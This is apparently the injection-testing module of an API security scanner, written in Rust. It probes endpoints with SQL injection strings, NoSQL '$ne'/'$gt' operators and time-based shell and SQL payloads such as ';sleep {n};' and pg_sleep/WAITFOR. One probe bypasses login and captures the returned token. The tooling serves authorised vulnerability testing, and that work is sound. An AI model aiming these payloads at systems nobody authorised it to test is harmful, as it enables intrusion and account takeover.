//! Injection, proven by the target's own behaviour:
//! - SQL in string parameters of read operations, error-based (a lone quote breaks the query,
//!   a doubled quote does not) and boolean differential (a tautology and a contradiction give
//!   different answers while two contradictions agree);
//! - SQL in JSON string fields of writes, error-based (no tautologies on writes);
//! - NoSQL operator injection: in the login body (`{"$ne": ...}` as a password), in query
//!   parameters (`q[$ne]=...`) and JSON fields, each against the same request with a value that
//!   matches nothing;
//! - OS commands and SQL by time: `sleep` / `SLEEP()` / `pg_sleep()` / `WAITFOR` payloads in
//!   parameters and JSON fields, a delay counted only when it follows the requested duration
//!   (2 s delayed, 0 s not, 3 s delayed again). Bounded: a few points, one hit per point.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use super::stable;
use crate::ctx::Ctx;
use crate::finding::{Finding, Rule, Severity, rules};
use crate::http::{Req, Resp};
use crate::model::{In, Op, type_of};

const PROBE: &str = "injection";
const MAX_PARAMS: usize = 12;
const MAX_FIELDS: usize = 12;
const MAX_TIMED: usize = 16;

fn same(a: &Resp, b: &Resp) -> bool {
    if a.status != b.status {
        return false;
    }
    match (a.json(), b.json()) {
        (Some(x), Some(y)) => stable(&x) == stable(&y),
        _ => a.text == b.text,
    }
}

/// Where a value is injected: a parameter, or a top-level string field of the JSON body.
struct Point<'a> {
    op: &'a Op,
    name: String,
    /// A value the operation accepts, which payloads are appended to.
    base: String,
    /// The body the field lives in (`None` for a parameter).
    body: Option<Value>,
}

impl Point<'_> {
    fn label(&self) -> String {
        match self.body {
            Some(_) => format!("JSON field `{}`", self.name),
            None => format!("Parameter `{}`", self.name),
        }
    }

    async fn send(&self, ctx: &Ctx, who: Option<usize>, value: String) -> Option<(Req, Resp)> {
        let op = self.op;
        let req = match &self.body {
            Some(_) => self.with_field(ctx, who, Value::String(value))?,
            None => Req::new(
                op.method.clone(),
                ctx.target(op, who, &[(self.name.as_str(), value)]),
            ),
        };
        send_for(ctx, op, who, req).await
    }

    /// The operation's request with the JSON field set to `value` (`None` for a parameter).
    fn with_field(&self, ctx: &Ctx, who: Option<usize>, value: Value) -> Option<Req> {
        let mut body = self.body.clone()?;
        body[self.name.as_str()] = value;
        let mut req = ctx.request(self.op, who);
        req.body = None;
        Some(req.json(body))
    }

    /// Sends and times it.
    async fn timed(
        &self,
        ctx: &Ctx,
        who: Option<usize>,
        value: String,
    ) -> Option<(Req, Resp, Duration)> {
        let t = Instant::now();
        let (req, resp) = self.send(ctx, who, value).await?;
        Some((req, resp, t.elapsed()))
    }
}

/// Sends as `who` when the operation is secured, else anonymously.
async fn send_for(ctx: &Ctx, op: &Op, who: Option<usize>, req: Req) -> Option<(Req, Resp)> {
    match (op.secured, who) {
        (true, Some(w)) => ctx.send_as(req, w).await,
        _ => ctx.send(&req).await.map(|r| (req, r)),
    }
}

/// Whether a schema is free text (no enum, no format).
fn free_text(ctx: &Ctx, schema: &Value) -> bool {
    let s = ctx.model.resolve(schema);
    type_of(s) == "string" && s.get("enum").is_none() && s.get("format").is_none()
}

/// String parameters of read operations.
fn param_points<'a>(ctx: &'a Ctx, who: Option<usize>) -> Vec<Point<'a>> {
    let mut out = Vec::new();
    for op in ctx
        .model
        .ops
        .iter()
        .filter(|o| o.method == Method::GET && !o.is_admin() && !o.deprecated && !o.is_auth())
    {
        for p in op
            .params
            .iter()
            .filter(|p| matches!(p.at, In::Query | In::Path) && free_text(ctx, &p.schema))
        {
            let base = ctx
                .param_value(op, &p.name, who)
                .unwrap_or_else(|| "portcullis".into());
            out.push(Point {
                op,
                name: p.name.clone(),
                base,
                body: None,
            });
        }
    }
    out
}

/// Top-level free-text fields of JSON bodies of writes (URL fields are the SSRF probe's).
fn field_points<'a>(ctx: &'a Ctx, who: Option<usize>) -> Vec<Point<'a>> {
    let mut out = Vec::new();
    for op in ctx.model.ops.iter().filter(|o| {
        matches!(o.method, Method::POST | Method::PUT | Method::PATCH)
            && !o.is_admin()
            && !o.deprecated
            && !o.is_auth()
    }) {
        let (Some(schema), Some(crate::http::Body::Json(Value::Object(body)))) =
            (&op.body, ctx.request(op, who).body)
        else {
            continue;
        };
        let Some(props) = ctx
            .model
            .resolve(schema)
            .get("properties")
            .and_then(Value::as_object)
        else {
            continue;
        };
        for (name, prop) in props {
            if !free_text(ctx, prop) || op.url_fields.iter().any(|f| f == &format!("/{name}")) {
                continue;
            }
            let base = body
                .get(name)
                .and_then(Value::as_str)
                .unwrap_or("portcullis")
                .to_owned();
            out.push(Point {
                op,
                name: name.clone(),
                base,
                body: Some(Value::Object(body.clone())),
            });
        }
    }
    out
}

pub(crate) async fn run(ctx: &Ctx) {
    let who = ctx.users().first().copied();
    let params = param_points(ctx, who);
    let fields = field_points(ctx, who);
    for point in params.iter().take(MAX_PARAMS) {
        ctx.ran(point.op, PROBE);
        if let Some(f) = sql_errors(ctx, point, who)
            .await
            .or(sql_boolean(ctx, point, who).await)
        {
            ctx.report(f);
        }
    }
    for point in fields.iter().take(MAX_FIELDS) {
        ctx.ran(point.op, PROBE);
        if let Some(f) = sql_errors(ctx, point, who).await {
            ctx.report(f);
        }
    }
    nosql_login(ctx).await;
    for point in params
        .iter()
        .filter(|p| {
            p.op.params
                .iter()
                .any(|x| x.name == p.name && x.at == In::Query)
        })
        .chain(&fields)
        .take(MAX_FIELDS)
    {
        if let Some(f) = nosql_operator(ctx, point, who).await {
            ctx.report(f);
        }
    }
    for point in params.iter().chain(&fields).take(MAX_TIMED) {
        if let Some(f) = timed(ctx, point, who).await {
            ctx.report(f);
        }
    }
}

/// Answers that say "not now" rather than anything about the request: rate limited, or a
/// gateway or server that could not answer.
fn transient(status: u16) -> bool {
    matches!(status, 429 | 502 | 503 | 504)
}

/// A lone quote breaks the statement, a doubled quote does not.
async fn sql_errors(ctx: &Ctx, point: &Point<'_>, who: Option<usize>) -> Option<Finding> {
    let base = &point.base;
    let (quote_req, quote) = point.send(ctx, who, format!("{base}'")).await?;
    let (_, doubled) = point.send(ctx, who, format!("{base}''")).await?;
    let leak = super::misconfig::leak_signature(&quote.text)
        .filter(|_| super::misconfig::leak_signature(&doubled.text).is_none());
    // A 5xx that only says "not now" (a gateway, an overload) is no broken statement.
    ((quote.status >= 500 && !transient(quote.status) && doubled.status < 500)
        || (quote.status >= 400 && leak == Some("SQL text"))
        || leak == Some("database error"))
    .then(|| {
        Finding::new(rules::SQLI, Severity::High, &point.op.key(), &point.name)
            .detail(format!(
                "{}: a lone quote is answered {} while a doubled quote is answered {}: the value is spliced into SQL.",
                point.label(), quote.status, doubled.status
            ))
            .evidence(ctx.http.exchange(&quote_req, Some(&quote)))
            .reproduce(ctx.http.curl(&quote_req))
    })
}

/// A tautology returns more than a contradiction, and two contradictions agree.
async fn sql_boolean(ctx: &Ctx, point: &Point<'_>, who: Option<usize>) -> Option<Finding> {
    let base = &point.base;
    for (t, f1, f2) in [
        ("' OR 1=1 -- ", "' AND 1=2 -- ", "' AND 2=3 -- "),
        ("\" OR 1=1 -- ", "\" AND 1=2 -- ", "\" AND 2=3 -- "),
    ] {
        let (treq, tr) = point.send(ctx, who, format!("{base}{t}")).await?;
        let (_, fr) = point.send(ctx, who, format!("{base}{f1}")).await?;
        if !tr.ok() || same(&tr, &fr) {
            continue;
        }
        let (_, fr2) = point.send(ctx, who, format!("{base}{f2}")).await?;
        if same(&fr, &fr2) && tr.text.len() > fr.text.len() {
            return Some(
                Finding::new(rules::SQLI, Severity::High, &point.op.key(), &point.name)
                    .detail(format!(
                        "{}: appending `{}` returns more data ({} bytes) than `{}` ({} bytes), which agrees with `{}`: the value is evaluated as SQL.",
                        point.label(), t.trim(), tr.text.len(), f1.trim(), fr.text.len(), f2.trim()
                    ))
                    .evidence(ctx.http.exchange(&treq, Some(&tr)))
                    .reproduce(ctx.http.curl(&treq)),
            );
        }
    }
    None
}

/// Login with a query operator in place of the password: a document store that takes the
/// body as a filter lets anyone in as any account.
async fn nosql_login(ctx: &Ctx) {
    let Some((who, recipe, account_field, password_field)) = super::login_recipe(ctx) else {
        return;
    };
    let Some(op) = reqwest::Method::from_bytes(recipe.method.as_bytes())
        .ok()
        .and_then(|m| ctx.model.find(&m, &recipe.path))
    else {
        return;
    };
    ctx.ran(op, PROBE);
    let account = recipe
        .body
        .get(&account_field)
        .cloned()
        .unwrap_or(Value::Null);
    let attempt = |password: Value| {
        let mut body = recipe.body.clone();
        body[account_field.as_str()] = account.clone();
        body[password_field.as_str()] = password;
        Req::new(op.method.clone(), recipe.path.clone()).json(body)
    };
    // The oracle: a wrong password must fail, or nothing can be concluded.
    let wrong = attempt(Value::String(format!("portcullis-wrong-{}", super::tag())));
    if ctx.send(&wrong).await.is_none_or(|r| r.ok()) {
        return;
    }
    for operator in [
        json!({ "$ne": format!("portcullis-{}", super::tag()) }),
        json!({ "$gt": "" }),
    ] {
        let req = attempt(operator.clone());
        if let Some(resp) = ctx.send(&req).await
            && resp.ok()
            && resp
                .json()
                .is_some_and(|v| v.pointer(&recipe.token_pointer).is_some())
        {
            ctx.http.add_secret(
                resp.json()
                    .and_then(|v| {
                        v.pointer(&recipe.token_pointer)
                            .and_then(Value::as_str)
                            .map(str::to_owned)
                    })
                    .unwrap_or_default(),
            );
            ctx.report(
                Finding::new(rules::NOSQLI, Severity::Critical, &op.key(), &password_field)
                    .detail(format!(
                        "A login as {}'s account with `{password_field}` set to the operator `{operator}` instead of a password was answered {} with a token: the body is used as a query filter.",
                        ctx.sessions[who].name, resp.status
                    ))
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
            return;
        }
    }
}

/// A value that matches nothing, then the operator `$ne` on it: a store that takes the
/// operator returns data (or succeeds) where the plain value did not.
async fn nosql_operator(ctx: &Ctx, point: &Point<'_>, who: Option<usize>) -> Option<Finding> {
    let nothing = format!("portcullis-none-{}", super::tag());
    let (_, plain) = point.send(ctx, who, nothing.clone()).await?;
    let op = point.op;
    let (req, resp) = match &point.body {
        Some(_) => {
            let req = point.with_field(ctx, who, json!({ "$ne": nothing }))?;
            send_for(ctx, op, who, req).await?
        }
        None => {
            // `name=<mark>` becomes `name[$ne]=<nothing>`.
            const MARK: &str = "portcullis-operator-mark";
            let path = ctx.target(op, who, &[(point.name.as_str(), MARK.to_owned())]);
            let from = format!("{}={MARK}", crate::ctx::encode(&point.name));
            let to = format!(
                "{}%5B%24ne%5D={}",
                crate::ctx::encode(&point.name),
                crate::ctx::encode(&nothing)
            );
            let req = Req::new(op.method.clone(), path.replace(&from, &to));
            send_for(ctx, op, who, req).await?
        }
    };
    let more = |r: &Resp| {
        r.json()
            .map(|v| crate::ctx::list_items(&v).len())
            .unwrap_or_default()
    };
    // The plain value must have been judged (a miss, or fewer items): a 429 or a 502-504 on
    // it says nothing about the filter.
    let hit = resp.ok() && !transient(plain.status) && (!plain.ok() || more(&resp) > more(&plain));
    hit.then(|| {
        Finding::new(rules::NOSQLI, Severity::High, &op.key(), &point.name)
            .detail(format!(
                "{}: a value that matches nothing is answered {} ({} items), the operator `$ne` on it {} ({} items): the value is used as a query filter.",
                point.label(), plain.status, more(&plain), resp.status, more(&resp)
            ))
            .evidence(ctx.http.exchange(&req, Some(&resp)))
            .reproduce(ctx.http.curl(&req))
    })
}

/// Payloads that stall the server for `{n}` seconds when executed: shell, then SQL dialects.
const DELAYS: &[(&Rule, &str)] = &[
    (&rules::CMDI, ";sleep {n};"),
    (&rules::CMDI, "$(sleep {n})"),
    (&rules::CMDI, "|sleep {n}"),
    (&rules::CMDI, "`sleep {n}`"),
    (&rules::CMDI, "';sleep {n};'"),
    (&rules::CMDI, "\";sleep {n};\""),
    (
        &rules::SQLI,
        "' AND (SELECT 1 FROM (SELECT SLEEP({n}))x)-- ",
    ),
    (&rules::SQLI, "' AND SLEEP({n})-- "),
    (&rules::SQLI, "'||(SELECT 1 FROM pg_sleep({n}))||'"),
    (&rules::SQLI, "';WAITFOR DELAY '0:0:{n}'-- "),
];

/// A delay that follows the requested duration, three times, is execution.
async fn timed(ctx: &Ctx, point: &Point<'_>, who: Option<usize>) -> Option<Finding> {
    ctx.ran(point.op, PROBE);
    let base = &point.base;
    // The normal answer time, the slower of two.
    let mut normal = Duration::ZERO;
    for _ in 0..2 {
        normal = normal.max(point.timed(ctx, who, base.clone()).await?.2);
    }
    let slow = |d: Duration, secs: u64| d >= normal + Duration::from_millis(secs * 1000 - 400);
    for (rule, payload) in DELAYS {
        let with = |n: u64| format!("{base}{}", payload.replace("{n}", &n.to_string()));
        let (req, resp, d2) = point.timed(ctx, who, with(2)).await?;
        if !slow(d2, 2) {
            continue;
        }
        let (_, _, d0) = point.timed(ctx, who, with(0)).await?;
        if slow(d0, 1) {
            continue;
        }
        let (_, _, d3) = point.timed(ctx, who, with(3)).await?;
        if !slow(d3, 3) {
            continue;
        }
        let what = if rule.id == rules::CMDI.id {
            "a shell command"
        } else {
            "SQL"
        };
        return Some(
            Finding::new(**rule, Severity::Critical, &point.op.key(), &point.name)
                .detail(format!(
                    "{}: appending `{}` delays the answer by the requested time (normally {} ms; {} ms for 2 s, {} ms for 0 s, {} ms for 3 s): the value runs as {what}.",
                    point.label(),
                    payload.replace("{n}", "N"),
                    normal.as_millis(), d2.as_millis(), d0.as_millis(), d3.as_millis()
                ))
                .evidence(ctx.http.exchange(&req, Some(&resp)))
                .reproduce(ctx.http.curl(&req)),
        );
    }
    None
}
